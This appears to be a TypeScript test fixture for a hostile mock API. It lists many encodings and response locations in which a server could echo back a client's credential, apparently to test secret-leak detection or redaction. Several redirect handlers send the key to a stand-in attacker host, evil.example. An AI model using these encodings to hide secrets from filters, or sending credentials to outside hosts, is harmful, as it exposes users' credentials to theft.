import { gzipSync } from "node:zlib";
import type { Misbehaviour } from "./hostile-api.ts";

const each = (text: string, write: (code: number) => string): string =>
  [...text].map((character) => write(character.charCodeAt(0))).join("");

const hex = (code: number): string => code.toString(16).padStart(2, "0");

/** How an API may write the credential that it was sent. */
export const spellings: Readonly<Record<string, (key: string) => string>> = {
  raw: (key) => key,
  "upper-case": (key) => key.toUpperCase(),
  "lower-case": (key) => key.toLowerCase(),
  base64: (key) => Buffer.from(key).toString("base64"),
  base64url: (key) => Buffer.from(key).toString("base64url"),
  "base64-of-a-pair": (key) => Buffer.from(`user:${key}`).toString("base64"),
  "base64-inside": (key) => Buffer.from(`{"a":"${key}","b":1}`).toString("base64"),
  hex: (key) => Buffer.from(key).toString("hex"),
  "hex-upper": (key) => Buffer.from(key).toString("hex").toUpperCase(),
  percent: (key) => encodeURIComponent(key),
  "percent-lower": (key) => encodeURIComponent(key).replace(/%../g, (found) => found.toLowerCase()),
  "percent-all": (key) => each(key, (code) => `%${hex(code)}`),
  "percent-one": (key) => `%${hex(key.charCodeAt(0))}${key.slice(1)}`,
  "percent-twice": (key) => encodeURIComponent(encodeURIComponent(key)),
  entities: (key) => each(key, (code) => `&#${code};`),
  "entities-hex": (key) => each(key, (code) => `&#x${hex(code)};`),
  "entity-one": (key) => key.replace("c", "&#x63;"),
};

/** Ways to write a JSON string of it, between its quotes. */
const jsonSpellings: Readonly<Record<string, (key: string) => string>> = {
  "json-escaped": (key) => each(key, (code) => `\\u00${hex(code)}`),
  "json-escaped-upper": (key) => each(key, (code) => `\\u00${hex(code).toUpperCase()}`),
  "json-one-letter": (key) => JSON.stringify(key).slice(1, -1).replace("c", "\\u0063"),
  "json-slashes": (key) => JSON.stringify(key).slice(1, -1).replaceAll("/", "\\/"),
  "json-in-json": (key) => JSON.stringify(JSON.stringify({ key })).slice(1, -1),
  "json-in-json-escaped": (key) => each(key, (code) => `\\\\u00${hex(code)}`),
  "json-percent": (key) => each(key, (code) => `\\u0025${hex(code)}`),
};

/** Where an answer can bring what it echoes, given as `[text, JSON string]`. */
const places: Readonly<Record<string, (text: string, string: string) => Misbehaviour>> = {
  value: (_, string) => (answer) => answer.end(`{"a":{"key":"x${string}y"}}`),
  name: (_, string) => (answer) => answer.end(`{"${string}":1}`),
  array: (_, string) => (answer) => answer.end(`[1,"${string}"]`),
  error: (_, string) => (answer) => answer.writeHead(400).end(`{"error":{"message":"bad ${string}"}}`),
  "error-text": (text) => (answer) => answer.writeHead(500, { "content-type": "text/plain" }).end(text),
  text: (text) => (answer) => answer.writeHead(200, { "content-type": "text/plain" }).end(`a ${text} b`),
  html: (text) => (answer) => answer.writeHead(200, { "content-type": "text/html" }).end(`<p>${text}</p>`),
  svg: (text) => (answer) =>
    answer.writeHead(200, { "content-type": "image/svg+xml" }).end(`<svg>${text}</svg>`),
  binary: (text) => (answer) =>
    answer.writeHead(200, { "content-type": "application/octet-stream" }).end(`\0\x01${text}\xff`),
  image: (text) => (answer) => answer.writeHead(200, { "content-type": "image/png" }).end(`\x89PNG${text}`),
  untyped: (text) => (answer) =>
    (answer.removeHeader("content-type") as undefined) ?? answer.end(`\0${text}`),
  stream: (_, string) => (answer) =>
    answer.writeHead(200, { "content-type": "text/event-stream" }).end(`data: {"a":"${string}"}\n\n`),
  part: (text) => (answer) =>
    answer
      .writeHead(200, { "content-type": "multipart/mixed; boundary=b" })
      .end(`--b\r\ncontent-type: text/plain\r\n\r\n${text}\r\n--b--\r\n`),
  long: (_, string) => (answer) =>
    answer.end(`{"list":[${Array.from({ length: 1_500 }, () => `"${string}"`).join(",")}]}`),
};

/** The same in a header, which takes no JSON. */
const headerPlaces: Readonly<Record<string, (text: string) => Misbehaviour>> = {
  "request-id": (text) => (answer) => answer.writeHead(400, { "x-request-id": text }).end("{}"),
  "retry-after": (text) => (answer) => answer.writeHead(400, { "retry-after": text }).end("{}"),
  location: (text) => (answer) =>
    answer.writeHead(302, { location: `https://evil.example/?k=${text}` }).end(),
  "location-user": (text) => (answer) =>
    answer.writeHead(302, { location: `https://u:${text}@evil.example/` }).end(),
  created: (text) => (answer) => answer.writeHead(201, { location: `/x/${text}` }).end(),
  "set-cookie": (text) => (answer) => answer.writeHead(200, { "set-cookie": `k=${text}` }).end("{}"),
  link: (text) => (answer) =>
    answer.writeHead(200, { link: `</v1/answers/a?k=${text}>; rel="next"` }).end("[1]"),
  phrase: (text) => (answer) => answer.writeHead(499, text).end(),
  "media-type": (text) => (answer) =>
    answer.writeHead(200, { "content-type": `image/png; a="${text}"` }).end("x"),
  "media-subtype": (text) => (answer) =>
    answer.writeHead(200, { "content-type": `image/${text.replace(/[^\w!#$%&'*+.^`|~-]/g, "")}` }).end("x"),
  charset: (text) => (answer) =>
    answer.writeHead(200, { "content-type": `text/plain; charset=${text}` }).end("x"),
  coding: (text) => (answer) => answer.writeHead(200, { "content-encoding": text }).end("x"),
};

/** These spellings stand in every place, the others in the usual ones. */
const thorough = new Set(["raw", "base64", "percent-all"]);
const usual = new Set(["value", "error", "text", "binary"]);

function combine(): [kind: string, misbehave: Misbehaviour][] {
  const kinds: [string, Misbehaviour][] = [];
  for (const [spelling, spell] of Object.entries(spellings)) {
    for (const [place, put] of Object.entries(places)) {
      if (!(thorough.has(spelling) || usual.has(place))) continue;
      const misbehave: Misbehaviour = (answer, seen) => {
        const text = spell(seen.key);
        put(text, JSON.stringify(text).slice(1, -1))(answer, seen);
      };
      kinds.push([`${spelling}-in-${place}`, misbehave]);
    }
  }
  for (const [spelling, spell] of Object.entries(jsonSpellings))
    for (const place of ["value", "name", "array", "error", "stream"])
      kinds.push([
        `${spelling}-in-${place}`,
        (answer, seen) => places[place]?.("", spell(seen.key))(answer, seen),
      ]);
  for (const spelling of ["raw", "base64", "percent", "upper-case", "hex"])
    for (const [place, put] of Object.entries(headerPlaces))
      kinds.push([
        `${spelling}-in-${place}`,
        (answer, seen) => put(spellings[spelling]?.(seen.key) ?? "")(answer, seen),
      ]);
  return kinds;
}

/** Encodings of a whole answer that hide the credential from who looks at its bytes. */
const whole: [kind: string, misbehave: Misbehaviour][] = [
  [
    "utf-16",
    (answer, { key }) =>
      answer
        .writeHead(200, { "content-type": "application/json; charset=utf-16le" })
        .end(Buffer.from(`{"a":${JSON.stringify(key)}}`, "utf16le")),
  ],
  [
    "marked-utf-16",
    (answer, { key }) =>
      answer.writeHead(200, { "content-type": "text/plain" }).end(Buffer.from(`\ufeff${key}`, "utf16le")),
  ],
  [
    "gzip",
    (answer, { key }) =>
      answer.writeHead(200, { "content-encoding": "gzip" }).end(gzipSync(JSON.stringify({ key }))),
  ],
  ["broken-json", (answer, { key }) => answer.end(`{"a":"\\u0063${key.slice(1)}`)],
  [
    "json-called-text",
    (answer, { key }) =>
      answer
        .writeHead(200, { "content-type": "text/plain" })
        .end(`{"a":"\\u0063${JSON.stringify(key).slice(2, -1)}"}`),
  ],
  [
    "cut-in-the-middle",
    (answer, { key }) =>
      answer
        .writeHead(200, { "content-type": "text/plain" })
        .end(`${"x".repeat(65_536 - key.length + 6)}${key}${"y".repeat(100)}`),
  ],
];

/** Each way to echo a credential, by the kind of answer that does it. */
export const echoes: Readonly<Record<string, Misbehaviour>> = Object.fromEntries(
  [...combine(), ...whole].map(([kind, misbehave]) => [`echo-${kind}`, misbehave]),
);
